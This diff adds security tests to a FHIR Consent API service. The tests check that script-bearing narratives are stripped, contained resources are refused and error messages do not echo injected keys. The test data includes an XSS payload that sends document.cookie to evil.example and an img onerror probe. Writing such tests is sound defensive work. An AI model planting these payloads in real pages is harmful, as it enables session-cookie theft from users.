@@ -159,3 +159,58 @@ async def test_who_sees_which_consent(facade: Any) -> None:
         assert other[1]["total"] == 0
         assert (await f.get(f"{BASE}/Consent/{region['id']}", headers=auth("homecare")))[0] == 404
         assert (await f.get(f"{BASE}/Consent"))[0] == 400  # which patient?
+
+
+SCRIPT = '<div xmlns="http://www.w3.org/1999/xhtml"><script>fetch("//evil.example/?"+document.cookie)</script>Samtycke</div>'
+
+
+async def test_a_consents_narrative_is_stripped_never_stored_or_served(facade: Any) -> None:
+    """Active narrative (text.div with a <script>) would run wherever the consent is displayed: it
+    is dropped from what is stored and answered, on POST and on PUT."""
+    body = {
+        **consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER),
+        "text": {"status": "generated", "div": SCRIPT},
+    }
+    async with facade(consent=False) as f:
+        status, created = await post(f, body)
+        assert status == 201, created
+        assert "text" not in created
+        _, read = await f.get(f"{BASE}/Consent/{created['id']}")
+        bundle = await search(f)
+        revoke = {**created, "status": "inactive", "text": {"status": "generated", "div": SCRIPT}}
+        resp = await f.client.put(f"{BASE}/Consent/{created['id']}", json=revoke, headers=JSON)
+        revoked = await resp.json(content_type=None)
+        again = await search(f)
+    assert resp.status == 200 and revoked["status"] == "inactive"
+    for answer in (created, read, bundle, revoked, again):
+        assert "<script>" not in str(answer) and "Samtycke" not in str(answer)
+    assert "text" not in read and "text" not in revoked
+
+
+async def test_contained_resources_are_refused_and_nothing_is_stored(facade: Any) -> None:
+    contained = [{"resourceType": "Organization", "id": "o1", "name": "Kardiologen <b>Karlstad</b>"}]
+    body = {**consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER), "contained": contained}
+    async with facade(consent=False) as f:
+        status, outcome = await post(f, body)
+        assert status == 400 and outcome["resourceType"] == "OperationOutcome"
+        assert "contained" in outcome["issue"][0]["diagnostics"]
+        assert "Karlstad" not in str(outcome)
+        assert ids(await search(f)) == set()
+        status, created = await post(f, consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER))
+        assert status == 201
+        resp = await f.client.put(
+            f"{BASE}/Consent/{created['id']}",
+            json={**created, "status": "inactive", "contained": contained},
+            headers=JSON,
+        )
+        assert resp.status == 400
+        (stored,) = (await search(f))["entry"]
+    assert stored["resource"]["status"] == "active" and "contained" not in stored["resource"]
+
+
+async def test_a_validation_error_does_not_echo_an_unknown_key(facade: Any) -> None:
+    body = {**consent_body(pid(TOLVAN.pnr), recipient=REGION_PROVIDER), "<img src=x onerror=alert(1)>": 1}
+    async with facade(consent=False) as f:
+        status, outcome = await post(f, body)
+    assert status == 400 and "Extra inputs are not permitted" in outcome["issue"][0]["diagnostics"]
+    assert "<img" not in str(outcome) and "onerror" not in str(outcome)
